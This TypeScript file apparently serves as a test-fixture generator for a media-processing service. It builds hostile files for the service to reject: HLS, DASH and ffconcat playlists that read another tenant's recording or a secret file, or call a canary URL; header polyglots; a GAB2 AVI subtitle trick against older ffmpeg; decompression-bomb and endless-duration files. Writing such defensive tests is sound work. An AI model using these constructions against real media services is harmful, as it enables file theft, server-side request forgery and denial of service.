import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { deflateSync, crc32 } from 'node:zlib';
import { make, makeAudioMp4, makeVideoMp4 } from './make.js';

export interface Attack {
  name: string;
  path: string;
  /** The content is that of the previous file; only the extension differs. */
  isSameAsBefore?: true;
}

export interface Bait {
  /** Another tenant's recording. */
  victim: string;
  /** Path of a file that contains the canary text. */
  secret: string;
  /** URL of a server that must not receive any request. */
  canaryUrl: string;
}

/** Writes all hostile files into a folder. None of them may be opened as media. */
export async function hostileFiles(folder: string, bait: Bait): Promise<Attack[]> {
  await mkdir(folder, { recursive: true });
  const write = async (name: string, content: string | Uint8Array): Promise<Attack> => {
    const path = join(folder, name);
    await writeFile(path, content);
    return { name, path };
  };
  const playlists: [string, string][] = [
    ['steal', playlist(bait.victim)],
    ['steal-by-url', playlist(`file://${bait.victim}`)],
    ['steal-concat', playlist(`concat:${bait.victim}|${bait.secret}`)],
    ['http-segment', playlist(`${bait.canaryUrl}/segment.ts`)],
    ['http-key', playlist(bait.victim, `#EXT-X-KEY:METHOD=AES-128,URI="${bait.canaryUrl}/key"\n`)],
    ['file-key', playlist(bait.victim, `#EXT-X-KEY:METHOD=AES-128,URI="${bait.secret}"\n`)],
    ['secret', playlist(bait.secret)],
    ['master', `#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n${bait.canaryUrl}/low.m3u8\n`],
    ['ffconcat', `ffconcat version 1.0\nfile '${bait.victim}'\n`],
    ['sdp', `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=audio 49170 RTP/AVP 0\n`],
    ['dash', dash(bait.canaryUrl)],
    ['svg', `<svg xmlns="http://www.w3.org/2000/svg"><image href="${bait.canaryUrl}/x.png"/></svg>`],
    ['text', `The file named mp4 says ${bait.secret}\n`.repeat(100)],
    ['script', '#!/bin/sh\ntouch /tmp/owned\n'],
    // Playlists after the first bytes of an accepted format.
    ['id3-playlist', `ID3\u0003\u0000\u0000\u0000\u0000\u0000\u0000${playlist(bait.victim)}`],
    [
      'ftyp-playlist',
      `\u0000\u0000\u0000\u0018ftypisom\u0000\u0000\u0002\u0000isomiso2${playlist(bait.victim)}`,
    ],
  ];
  const named = playlists.flatMap(([name, content]) =>
    ['.m3u8', '.mp4', ''].map(async (extension, i) => ({
      ...(await write(name + extension, content)),
      ...(i > 0 && { isSameAsBefore: true as const }),
    })),
  );
  const video = await readFile(await makeVideoMp4(join(folder, 'whole.mp4')));
  const fast = await readFile(await makeVideoMp4(join(folder, 'fast.mp4'), '-movflags', '+faststart'));
  const audio = await readFile(await makeAudioMp4(join(folder, 'audio.mp4')));
  return Promise.all([
    ...named,
    write('zero-length.mp4', ''),
    write('sixteen-bytes.mp4', video.subarray(0, 16)),
    write('no-moov.mp4', video.subarray(0, video.indexOf('moov') - 4)),
    write('half-moov.mp4', fast.subarray(0, fast.indexOf('moov') + 300)),
    write('huge-image.png', hugePng()),
    write('huge-image.mp4', hugePng()),
    write('endless-video.mkv', await endlessVideo(folder)),
    write('ten-thousand-streams.mp4', manyTracks(audio, 10_000)),
    write('gab2.avi', gab2(playlist(`${bait.canaryUrl}/gab2.ts`), playlist(bait.secret))),
    write('noise.mp3', Buffer.concat([Buffer.from('ID3'), Buffer.alloc(50_000, 0x5a)])),
  ]);
}

const playlist = (uri: string, extra = '') =>
  `#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:10\n#EXT-X-MEDIA-SEQUENCE:0\n${extra}#EXTINF:10,\n${uri}\n#EXT-X-ENDLIST\n`;

const dash = (url: string) => `<?xml version="1.0"?>
<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT10S" profiles="urn:mpeg:dash:profile:isoff-main:2011">
<Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>${url}/v.mp4</BaseURL></Representation></AdaptationSet></Period></MPD>`;

/** Returns a PNG of 16,384 × 16,384 one-bit pixels in about 33 KB. */
export function hugePng(side = 16_384): Buffer {
  const chunk = (name: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(name), data]);
    const [length, check] = [Buffer.alloc(4), Buffer.alloc(4)];
    length.writeUInt32BE(data.length);
    check.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, check]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header[8] = 1; // bits per pixel
  const rows = deflateSync(Buffer.alloc(side * (side / 8 + 1)));
  const signature = Buffer.from('89504e470d0a1a0a', 'hex');
  return Buffer.concat([
    signature,
    chunk('IHDR', header),
    chunk('IDAT', rows),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** Returns a video with one frame and a declared length of a billion seconds. */
async function endlessVideo(folder: string): Promise<Buffer> {
  const one = ['-f', 'lavfi', '-i', 'testsrc=size=64x64:rate=25:duration=0.04', '-c:v', 'mpeg4'];
  const bytes = await readFile(await make(join(folder, 'one-frame.mkv'), ...one, '-f', 'matroska', '{}'));
  const duration = bytes.indexOf(Buffer.from('448988', 'hex')); // EBML id of Duration, eight bytes long
  bytes.writeDoubleBE(1e12, duration + 3); // in milliseconds
  return bytes;
}

/** Repeats the audio track of an MP4 many times. */
function manyTracks(mp4: Buffer, count: number): Buffer {
  const at = (name: string, from = 0) => mp4.indexOf(name, from) - 4;
  const [moov, trak] = [at('moov'), at('trak')];
  const moovEnd = moov + mp4.readUInt32BE(moov);
  const trakEnd = trak + mp4.readUInt32BE(trak);
  const tracks = Array.from({ length: count }, (_, i) => {
    const copy = Buffer.from(mp4.subarray(trak, trakEnd));
    copy.writeUInt32BE(i + 1, copy.indexOf('tkhd') + 16); // track id
    return copy;
  });
  const body = [mp4.subarray(moov + 8, trak), ...tracks, mp4.subarray(trakEnd, moovEnd)];
  const head = Buffer.from('\0\0\0\0moov');
  head.writeUInt32BE(8 + body.reduce((sum, { length }) => sum + length, 0));
  return Buffer.concat([mp4.subarray(0, moov), head, ...body, mp4.subarray(moovEnd)]);
}

/** Returns an AVI whose subtitle streams are playlists, which bypassed ffmpeg's checks until 2017. */
function gab2(...playlists: string[]): Buffer {
  const chunk = (id: string, data: Buffer) => {
    const head = Buffer.from(`${id}\0\0\0\0`);
    head.writeUInt32LE(data.length, 4);
    return Buffer.concat([head, data, Buffer.alloc(data.length % 2)]);
  };
  const list = (id: string, ...parts: Buffer[]) => chunk('LIST', Buffer.concat([Buffer.from(id), ...parts]));
  const avih = Buffer.alloc(56);
  avih.writeUInt32LE(40_000, 0);
  avih.writeUInt32LE(playlists.length, 24);
  const strh = Buffer.alloc(56);
  strh.write('txts');
  strh.writeUInt32LE(1, 20);
  strh.writeUInt32LE(1, 24);
  strh.writeUInt32LE(1, 32);
  const headers = playlists.map(() => list('strl', chunk('strh', strh), chunk('strf', Buffer.alloc(40))));
  const subtitles = playlists.map((text, i) => {
    const head = Buffer.from('GAB2\0\x02\0\x02\0\0\0a\0\x04\0\0\0\0\0', 'latin1');
    head.writeUInt32LE(text.length, head.length - 4);
    return chunk(`0${i}tx`, Buffer.concat([head, Buffer.from(text)]));
  });
  return chunk(
    'RIFF',
    Buffer.concat([
      Buffer.from('AVI '),
      list('hdrl', chunk('avih', avih), ...headers),
      list('movi', ...subtitles),
    ]),
  );
}
